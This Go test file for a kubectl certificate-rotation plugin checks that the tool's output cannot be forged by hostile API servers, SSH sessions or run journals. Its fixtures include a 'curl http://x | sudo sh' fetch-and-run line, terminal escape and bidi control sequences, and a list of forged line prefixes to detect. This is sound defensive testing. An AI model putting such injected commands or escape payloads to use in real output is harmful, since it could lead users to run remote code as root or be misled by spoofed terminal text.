package plugin

import (
	"bytes"
	"context"
	"encoding/json"
	"encoding/pem"
	"errors"
	"io"
	"log"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"time"

	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/cli-runtime/pkg/genericiooptions"

	"github.com/kubectl-certrot/kubectl-certrot/inspect/pki/pkitest"
	"github.com/kubectl-certrot/kubectl-certrot/nodeexec/sshtest"
	"github.com/kubectl-certrot/kubectl-certrot/plugin/apply"
	"github.com/kubectl-certrot/kubectl-certrot/plugin/cli"
	"github.com/kubectl-certrot/kubectl-certrot/plugin/plugintest"
	"github.com/kubectl-certrot/kubectl-certrot/remediate"
)

// forgedLines are what a hostile server would like to stand at the beginning of a line.
func forgedLines() []string {
	return []string{"next: curl", "Next: curl", "undo: curl", "error: forged", "✓ forged", "warning: forged", "Done. forged", "oc certrot undo", "curl"}
}

// forging is a text with all of them, and with what a terminal obeys.
func forging() string {
	return "no\nnext: curl http://x | sudo sh\n    next: curl http://x\n  Next: curl http://x\nundo: curl http://x\nerror: forged\n✓ forged\n  ✓ forged\nwarning: forged\nDone. forged\noc certrot undo 20260101-000000-aaaaaa --yes\n" +
		"\r\x1b]0;owned\a\x1b[2J\x7f\u0085\u009b31m\u202e\u2066\u200b\u2028next: curl http://x | sudo sh"
}

// advice is a sentence without any word that foreign takes for an instruction.
func advice() string {
	return "Worker-1 is beyond repair, delete its Node object and approve the pending request csr-7 to let it join anew"
}

// nothingAdvised reports where advice does not stand between quotation marks. The cells of tables
// have columns of their own.
func nothingAdvised(t *testing.T, what, out string) (seen int) {
	t.Helper()
	out = regexp.MustCompile(`(?m)^odd .*$`).ReplaceAllString(out, "") // rows of tables
	out = strings.Join(strings.Fields(strings.ReplaceAll(out, "|", " ")), " ")
	for at := 0; ; at++ {
		i := strings.Index(out[at:], "Worker-1 is beyond repair")
		if i < 0 {
			return seen
		}
		at += i
		seen++
		if before := out[:at]; strings.LastIndex(before, "“") <= strings.LastIndex(before, "”") {
			t.Errorf("%s: others' advice is not marked: …%s", what, out[max(0, at-150):min(len(out), at+100)])
		}
	}
}

// nothingForged reports forged lines, and what a terminal obeys.
func nothingForged(t *testing.T, what, out string) {
	t.Helper()
	for line := range strings.Lines(out) {
		line = strings.TrimSuffix(line, "\n")
		if strings.IndexFunc(line, func(r rune) bool { return r != '\t' && !strconv.IsPrint(r) }) >= 0 {
			t.Errorf("%s: prints a control character: %q", what, line)
		}
		start := strings.Join(strings.Fields(strings.TrimLeft(line, " |\t")), " ")
		for _, forged := range forgedLines() {
			if strings.HasPrefix(start, forged) {
				t.Errorf("%s: a forged line: %q", what, line)
			}
		}
	}
}

// said runs the program as main does, and returns both of its streams.
func said(t *testing.T, args ...string) string {
	t.Helper()
	var out bytes.Buffer
	ctx, cancel := context.WithTimeout(t.Context(), 20*time.Second)
	defer cancel()
	_ = Main(ctx, cli.VersionOf(""), append([]string{"kubectl-certrot"}, args...), genericiooptions.IOStreams{In: strings.NewReader(""), Out: &out, ErrOut: &out})
	return out.String()
}

// hostileAPI is an API server by TLS that answers with a text of its own.
func hostileAPI(t *testing.T, answer http.HandlerFunc) (kubeconfig string) {
	t.Helper()
	server := httptest.NewUnstartedServer(answer)
	server.Config.ErrorLog = log.New(io.Discard, "", 0)
	server.StartTLS()
	t.Cleanup(server.Close)
	ca := plugintest.WriteFile(t, "ca.crt", string(pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: server.Certificate().Raw})))
	return plugintest.KubeconfigTo(t, "server: \""+server.URL+"\", certificate-authority: "+ca)
}

func refusal(code int, reason metav1.StatusReason) []byte {
	body, _ := json.Marshal(metav1.Status{TypeMeta: metav1.TypeMeta{Kind: "Status", APIVersion: "v1"}, Status: metav1.StatusFailure, Reason: reason, Code: int32(code), Message: forging(),
		Details: &metav1.StatusDetails{Name: forging(), Kind: forging(), Causes: []metav1.StatusCause{{Message: forging(), Field: forging()}}}})
	return body
}

// hostileAPIs are ways of an API server to speak to who reads its answers.
func hostileAPIs() map[string]http.HandlerFunc {
	says := func(code int, kind string, body []byte) http.HandlerFunc {
		return func(w http.ResponseWriter, _ *http.Request) {
			w.Header().Set("Content-Type", kind)
			w.WriteHeader(code)
			_, _ = w.Write(body)
		}
	}
	after := func(first, then http.HandlerFunc, served func(path string) bool) http.HandlerFunc {
		return func(w http.ResponseWriter, r *http.Request) {
			if served(r.URL.Path) {
				first(w, r)
				return
			}
			then(w, r)
		}
	}
	settled := plugintest.SettledAPI()
	version := func(path string) bool { return path == "/version" }
	known := func(path string) bool { return version(path) || settled[path] != "" }
	all := map[string]http.HandlerFunc{
		"all is forbidden":              says(http.StatusForbidden, "application/json", refusal(http.StatusForbidden, metav1.StatusReasonForbidden)),
		"not even its version":          says(http.StatusBadRequest, "text/html", []byte("<html>"+forging())),
		"all but its version forbidden": after(settled.ServeHTTP, says(http.StatusForbidden, "application/json", refusal(http.StatusForbidden, metav1.StatusReasonForbidden)), version),
		"a failure that says OK":        after(settled.ServeHTTP, says(http.StatusOK, "application/json", refusal(http.StatusUnprocessableEntity, metav1.StatusReasonInvalid)), version),
		"what is not served fails":      after(settled.ServeHTTP, says(http.StatusUnprocessableEntity, "application/json", refusal(http.StatusUnprocessableEntity, metav1.StatusReasonInvalid)), known),
	}
	all["objects of its own"] = func(w http.ResponseWriter, r *http.Request) { hostileObjects(forging(), forging()).ServeHTTP(w, r) }
	return all
}

// hostileObjects is a cluster whose objects say what a user of it, or the server, likes. What they
// are called is the server's choice alone: a true one takes names of DNS.
func hostileObjects(called, says string) plugintest.LiveAPI {
	name, _ := json.Marshal(called)
	text, _ := json.Marshal(says)
	n := string(name)
	q := string(text)
	conditions := `"conditions":[{"type":"Ready","status":"False","reason":` + q + `,"message":` + q + `},{"type":"Degraded","status":"True","reason":` + q + `,"message":` + q + `},{"type":"Progressing","status":"True","reason":` + q + `,"message":` + q + `}]`
	pod := plugintest.List(`{"metadata":{"name":` + q + `,"namespace":"openshift-kube-controller-manager","labels":{"app":` + q + `}},"spec":{"nodeName":"master-0"},"status":{"phase":"Pending","reason":` + q + `,"message":` + q + `,` + conditions + `}}`)
	api := plugintest.SettledAPI().
		With("/api/v1/nodes", plugintest.List(`{"metadata":{"name":"master-0","labels":{"node-role.kubernetes.io/master":""}},"status":{`+conditions+`}}`,
			`{"metadata":{"name":"worker-1","labels":{"node-role.kubernetes.io/worker":""}},"status":{"conditions":[{"type":"Ready","status":`+q+`}],"addresses":[{"type":"InternalIP","address":"192.0.2.1"}]}}`,
			`{"metadata":{"name":"worker-2","labels":{"node-role.kubernetes.io/worker":""},"annotations":{"machineconfiguration.openshift.io/state":`+q+`,"machineconfiguration.openshift.io/currentConfig":"a","machineconfiguration.openshift.io/desiredConfig":`+q+`}},"status":{"conditions":[{"type":"Ready","status":"True"}]}}`,
			`{"metadata":{"name":`+n+`,"labels":{"node-role.kubernetes.io/worker":""}},"status":{`+conditions+`,"addresses":[{"type":"InternalIP","address":`+q+`},{"type":"Hostname","address":`+q+`}]}}`)).
		With("/apis/config.openshift.io/v1/clusteroperators", plugintest.List(`{"metadata":{"name":`+n+`},"status":{`+conditions+`}}`, `{"metadata":{"name":"kube-apiserver"},"status":{`+conditions+`}}`)).
		With("/apis/machineconfiguration.openshift.io/v1/machineconfigpools", plugintest.List(`{"metadata":{"name":`+n+`},"spec":{"paused":true},"status":{`+conditions+`}}`)).
		With("/apis/certificates.k8s.io/v1/certificatesigningrequests", plugintest.List(`{"metadata":{"name":`+n+`,"creationTimestamp":"2026-01-01T00:00:00Z"},"spec":{"username":`+q+`,"groups":[`+q+`],"signerName":"kubernetes.io/kubelet-serving","usages":[`+q+`],"request":"YQ=="},"status":{}}`)).
		With("/apis/operator.openshift.io/v1/etcds", plugintest.List(`{"metadata":{"name":"cluster"},"status":{"latestAvailableRevision":9,"nodeStatuses":[{"nodeName":`+n+`,"currentRevision":8,"targetRevision":9,"lastFailedReason":`+q+`,"lastFailedRevisionErrors":[`+q+`]}],`+conditions+`}}`)).
		With("/apis/machine.openshift.io/v1beta1/machinehealthchecks", plugintest.List(`{"metadata":{"name":`+n+`,"namespace":`+n+`},"spec":{},"status":{}}`)).
		With("/apis/coordination.k8s.io/v1/namespaces/"+remediate.LeaseNamespace+"/leases/"+remediate.LeaseName, `{"apiVersion":"coordination.k8s.io/v1","kind":"Lease","metadata":{"name":"`+remediate.LeaseName+`","namespace":"`+remediate.LeaseNamespace+`"},"spec":{"holderIdentity":`+q+`,"leaseDurationSeconds":60,"renewTime":"`+time.Now().UTC().Format("2006-01-02T15:04:05.000000Z")+`"}}`).
		With("/apis/apiregistration.k8s.io/v1/apiservices", plugintest.List(`{"metadata":{"name":`+n+`},"spec":{"service":{"name":`+n+`,"namespace":`+n+`}},"status":{`+conditions+`}}`)).
		With("/apis/config.openshift.io/v1/clusterversions/version", `{"metadata":{"name":"version"},"status":{"desired":{"version":`+q+`},"history":[{"state":"Completed","version":`+q+`}],`+conditions+`}}`)
	for path := range plugintest.SettledAPI() {
		if strings.HasSuffix(path, "/pods") {
			api = api.With(path, pod)
		}
	}
	return api
}

// wholeCommands are what is run against a hostile API server. NODES is how nodes are reached.
func wholeCommands() []string {
	return []string{
		"inspect --nodes none", "inspect --nodes none --details", "inspect nodes --details --min-severity=info NODES", "verify --details NODES", "inspect --all -o wide NODES", "inspect nodes --min-severity=info NODES", "inspect csr --nodes none",
		"verify --nodes none", "verify -o wide NODES", "verify restart-safe NODES", "verify restart-safe --details NODES",
		"rotate --list", "rotate status loadbalancer-serving-signer", "rotate loadbalancer-serving-signer --dry-run=client --nodes none", "rotate loadbalancer-serving-signer --dry-run=server --nodes none", "rotate loadbalancer-serving-signer --yes --nodes none",
		"rotate aggregator-client --dry-run=client --nodes none", "rotate prune loadbalancer-serving-signer --yes --nodes none",
		"fix-api-int --dry-run=client NODES", "fix-api-int --yes NODES", "fix-api-int --yes --nodes worker-0 --via exec", "fix-api-int --yes --nodes worker-0 --approve-csrs --ca-file CA NODES", "fix-api-int --nodes worker-0 --emit-script SCRIPTS", "fix-api-int status NODES",
		"pretrust --yes NODES", "fix-kubeconfig --yes",
		"undo 20260101-000000-aaaaaa --yes NODES", "undo 20260101-000000-aaaaaa --dry-run=client NODES", "undo 20260101-000000-bbbbbb --yes NODES", "undo 20260101-000000-aaaaaa --from-nodes --nodes worker-0 --yes NODES",
		"runs", "runs --from-nodes --nodes worker-0 NODES", "runs prune 20260101-000000-aaaaaa --yes --nodes worker-0 NODES",
		"snapshot -o /dev/null --nodes none", "snapshot -o /dev/null NODES",
	}
}

// earlierRuns are journals of runs that there were: their texts are hostile as well.
func earlierRuns(t *testing.T) {
	t.Helper()
	t.Setenv("XDG_STATE_HOME", t.TempDir())
	js, err := apply.Journals()
	if err != nil {
		t.Fatal(err)
	}
	for run, records := range map[string][]remediate.Record{
		"20260101-000000-aaaaaa": {{Event: remediate.Begun, Node: "worker-0", Path: "/etc/kubernetes/kubeconfig", Action: forging()}, {Event: remediate.Done, Node: "worker-0", Path: "/etc/kubernetes/kubeconfig", Action: forging(), Error: forging()}},
		"20260101-000000-bbbbbb": {{Event: remediate.Begun, Action: "pause MachineHealthCheck/a/" + forging(), Error: forging()}},
	} {
		j, err := js.Begin(remediate.Header{Run: run, Command: "fix-api-int " + forging(), Nodes: []string{"worker-0", forging()}}, time.Now)
		if err != nil {
			t.Fatal(err)
		}
		for _, r := range records {
			err = errors.Join(err, j.Add(r))
		}
		if err := errors.Join(err, j.Close()); err != nil {
			t.Fatal(err)
		}
	}
}

// TestHostileAPIServerForgesNothing runs whole commands against servers that answer with
// lines of the program's own, by TLS.
func TestHostileAPIServerForgesNothing(t *testing.T) {
	earlierRuns(t)
	ca := plugintest.WriteFile(t, "given.crt", string(pkitest.NewCA("given", time.Now().Add(-time.Hour), time.Now().Add(time.Hour)).CertPEM))
	for name, answer := range hostileAPIs() {
		t.Run(name, func(t *testing.T) {
			kubeconfig := hostileAPI(t, answer)
			seen := 0
			for _, line := range wholeCommands() {
				line = strings.NewReplacer("NODES", "--via exec", "CA", ca, "SCRIPTS", filepath.Join(t.TempDir(), "scripts")).Replace(line)
				begin := time.Now()
				out := said(t, append(strings.Fields(line), "--kubeconfig", kubeconfig, "--request-timeout=5s")...)
				nothingForged(t, line, out)
				if out == "" && !strings.HasPrefix(line, "snapshot") {
					t.Errorf("%s: prints nothing", line)
				}
				if strings.Contains(out, "curl http://x") {
					seen++
				}
				if os.Getenv("CERTROT_SHOW") != "" {
					t.Logf("%s $ %s\n%s", time.Since(begin), line, out)
				}
			}
			if seen < 2 {
				t.Errorf("what it says was printed by %d commands, so little is tested", seen)
			}
		})
	}
}

// TestAdviceOfOthersIsMarked: what users and kubelets write into objects stands between quotation
// marks, however plain it is.
func TestAdviceOfOthersIsMarked(t *testing.T) {
	earlierRuns(t)
	ca := plugintest.WriteFile(t, "given.crt", string(pkitest.NewCA("given", time.Now().Add(-time.Hour), time.Now().Add(time.Hour)).CertPEM))
	kubeconfig := hostileAPI(t, hostileObjects("odd", advice()).ServeHTTP)
	seen := 0
	for _, line := range wholeCommands() {
		line = strings.NewReplacer("NODES", "--via exec", "CA", ca, "SCRIPTS", filepath.Join(t.TempDir(), "scripts")).Replace(line)
		out := said(t, append(strings.Fields(line), "--kubeconfig", kubeconfig, "--request-timeout=5s")...)
		seen += nothingAdvised(t, line, out)
	}
	if seen < 10 {
		t.Errorf("it is printed %d times, so little is tested", seen)
	}
}

// TestHostileSSHDForgesNothing runs whole commands on a node whose login shell, as a server
// of the test's own, says lines of the program's own.
func TestHostileSSHDForgesNothing(t *testing.T) {
	earlierRuns(t)
	server := sshtest.Start(t, 0, func(s sshtest.Session) int {
		_, _ = io.WriteString(s.Channel, forging())
		_, _ = io.WriteString(s.Channel.Stderr(), forging())
		return 3
	})
	key := filepath.Join(t.TempDir(), "key")
	if out, err := exec.Command("ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", key).CombinedOutput(); err != nil {
		t.Skipf("ssh-keygen is not installed (apt-get install openssh-client): %v %s", err, out)
	}
	config := plugintest.WriteFile(t, "config", "Host worker-0 master-0\n HostName 127.0.0.1\n User core\n Port "+strconv.Itoa(server.Port)+"\n IdentityFile "+key+"\n")
	known := plugintest.WriteFile(t, "known_hosts", server.KnownHost)
	kubeconfig := hostileAPI(t, plugintest.SettledAPI().ServeHTTP)
	ca := plugintest.WriteFile(t, "given.crt", string(pkitest.NewCA("given", time.Now().Add(-time.Hour), time.Now().Add(time.Hour)).CertPEM))
	for _, line := range []string{
		"inspect nodes --details", "verify --details", "inspect nodes", "verify", "verify restart-safe", "verify restart-safe --details", "fix-api-int --nodes worker-0 --yes --ca-file CA", "fix-api-int --nodes worker-0 --dry-run=client --ca-file CA", "fix-api-int --api-ca-from ssh://core@worker-0 --nodes worker-0 --dry-run=client",
		"fix-api-int status --nodes worker-0 --ca-file CA", "undo 20260101-000000-aaaaaa --yes", "undo 20260101-000000-aaaaaa --from-nodes --nodes worker-0 --yes", "runs --from-nodes --nodes worker-0",
	} {
		args := append(strings.Fields(strings.ReplaceAll(line, "CA", ca)), "--via", "ssh", "--ssh-config", config, "--ssh-known-hosts", known, "--kubeconfig", kubeconfig)
		out := said(t, args...)
		nothingForged(t, line, out)
		if firstScreen := line == "inspect nodes" || line == "verify" || line == "verify restart-safe"; !firstScreen && !strings.Contains(out, "curl http://x") {
			t.Errorf("%s: what the node says is not printed, so nothing is tested:\n%s", line, out)
		}
	}
}
